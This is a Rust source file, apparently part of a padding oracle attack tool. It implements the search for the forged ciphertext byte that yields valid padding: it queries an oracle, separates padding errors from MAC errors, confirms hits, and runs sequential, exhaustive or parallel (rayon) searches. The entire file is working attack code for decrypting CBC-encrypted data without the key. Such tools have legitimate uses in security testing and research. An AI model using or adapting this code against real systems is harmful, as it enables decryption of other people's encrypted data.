// Candidate search for the single byte varied in each round.
use std::sync::atomic::{AtomicBool, Ordering};

use rayon::prelude::*;
use tracing::{trace, warn};

use crate::ciphertext::{Ciphertext, TamperedCiphertext};
use crate::config::{AttackConfig, SearchStrategy};
use crate::error::AttackError;
use crate::oracle::{PaddingOracle, Verdict};

/// Submits one candidate value at a fixed offset on top of the forced padding.
pub(crate) struct Probe<'p, 'c, O: PaddingOracle + ?Sized> {
    oracle: &'p O,
    tampered: &'p TamperedCiphertext<'c>,
    offset: usize,
    pad_len: u8,
    config: &'p AttackConfig,
}

impl<'p, 'c, O: PaddingOracle + ?Sized> Probe<'p, 'c, O> {
    pub(crate) fn new(
        oracle: &'p O,
        tampered: &'p TamperedCiphertext<'c>,
        offset: usize,
        pad_len: u8,
        config: &'p AttackConfig,
    ) -> Self {
        Self {
            oracle,
            tampered,
            offset,
            pad_len,
            config,
        }
    }

    fn query(&self, candidate: u8) -> Result<Verdict, AttackError> {
        let ciphertext = self.tampered.clone().set(self.offset, candidate).build();
        let verdict = self.submit(&ciphertext)?;
        trace!(offset = self.offset, candidate, ?verdict, "oracle verdict");
        Ok(verdict)
    }

    /// Checks that a hit pads to exactly `pad_len` bytes.
    ///
    /// With one forced byte, a hit can also complete a longer padding the
    /// plaintext happens to end with, e.g. `\x02\x02`. Flipping the byte
    /// before the varied one breaks any such padding but keeps `\x01` valid.
    fn confirm(&self, candidate: u8) -> Result<bool, AttackError> {
        let previous = match self.offset.checked_sub(1) {
            Some(previous) if self.pad_len == 1 => previous,
            _ => return Ok(true),
        };
        let ciphertext = self
            .tampered
            .clone()
            .set(self.offset, candidate)
            .xor(previous, 0x01)
            .build();
        let verdict = self.submit(&ciphertext)?;
        trace!(offset = self.offset, candidate, ?verdict, "confirmation verdict");
        Ok(verdict != Verdict::PaddingInvalid)
    }

    fn submit(&self, ciphertext: &Ciphertext) -> Result<Verdict, AttackError> {
        if self.config.is_cancelled() {
            return Err(AttackError::Cancelled);
        }
        Ok(self.oracle.query(ciphertext)?)
    }
}

/// Finds the value of the varied byte that gives valid padding of `pad_len`.
pub(crate) fn find_forged_byte<O: PaddingOracle + ?Sized>(
    probe: &Probe<'_, '_, O>,
    original_byte: u8,
    strategy: SearchStrategy,
) -> Result<u8, AttackError> {
    let pad_len = probe.pad_len;
    let (hits, saw_ok) = match strategy {
        SearchStrategy::Sequential => search_sequential(probe)?,
        SearchStrategy::Exhaustive => search_exhaustive(probe)?,
        SearchStrategy::Parallel => search_parallel(probe)?,
    };

    match hits.as_slice() {
        [candidate] => Ok(*candidate),
        [] if saw_ok => {
            // Only the untouched byte pads correctly, so the plaintext already
            // ends in valid padding of this length.
            warn!(
                offset = probe.offset,
                pad_len, "no forged padding found, keeping original byte"
            );
            Ok(original_byte)
        }
        [] => Err(AttackError::ProtocolInconsistency {
            offset: probe.offset,
            pad_len,
        }),
        _ => {
            warn!(offset = probe.offset, pad_len, candidates = ?hits, "ambiguous match");
            Err(AttackError::AmbiguousMatch {
                offset: probe.offset,
                pad_len,
                candidates: hits,
            })
        }
    }
}

fn search_sequential<O: PaddingOracle + ?Sized>(
    probe: &Probe<'_, '_, O>,
) -> Result<(Vec<u8>, bool), AttackError> {
    let mut saw_ok = false;
    for candidate in 0..=u8::MAX {
        match probe.query(candidate)? {
            Verdict::MacInvalid if probe.confirm(candidate)? => {
                return Ok((vec![candidate], saw_ok))
            }
            Verdict::Ok => saw_ok = true,
            Verdict::MacInvalid | Verdict::PaddingInvalid => {}
        }
    }
    Ok((Vec::new(), saw_ok))
}

fn search_exhaustive<O: PaddingOracle + ?Sized>(
    probe: &Probe<'_, '_, O>,
) -> Result<(Vec<u8>, bool), AttackError> {
    let mut saw_ok = false;
    let mut hits = Vec::new();
    for candidate in 0..=u8::MAX {
        match probe.query(candidate)? {
            Verdict::MacInvalid if probe.confirm(candidate)? => hits.push(candidate),
            Verdict::Ok => saw_ok = true,
            Verdict::MacInvalid | Verdict::PaddingInvalid => {}
        }
    }
    Ok((hits, saw_ok))
}

fn search_parallel<O: PaddingOracle + ?Sized>(
    probe: &Probe<'_, '_, O>,
) -> Result<(Vec<u8>, bool), AttackError> {
    let found = AtomicBool::new(false);
    let saw_ok = AtomicBool::new(false);

    let results = (0..=u8::MAX)
        .into_par_iter()
        .map(|candidate| -> Result<Option<u8>, AttackError> {
            // Queries already in flight may still report a second hit.
            if found.load(Ordering::SeqCst) {
                return Ok(None);
            }
            match probe.query(candidate)? {
                Verdict::MacInvalid if probe.confirm(candidate)? => {
                    found.store(true, Ordering::SeqCst);
                    Ok(Some(candidate))
                }
                Verdict::Ok => {
                    saw_ok.store(true, Ordering::SeqCst);
                    Ok(None)
                }
                Verdict::MacInvalid | Verdict::PaddingInvalid => Ok(None),
            }
        })
        .collect::<Result<Vec<Option<u8>>, AttackError>>()?;

    let hits = results.into_iter().flatten().collect();
    Ok((hits, saw_ok.load(Ordering::SeqCst)))
}
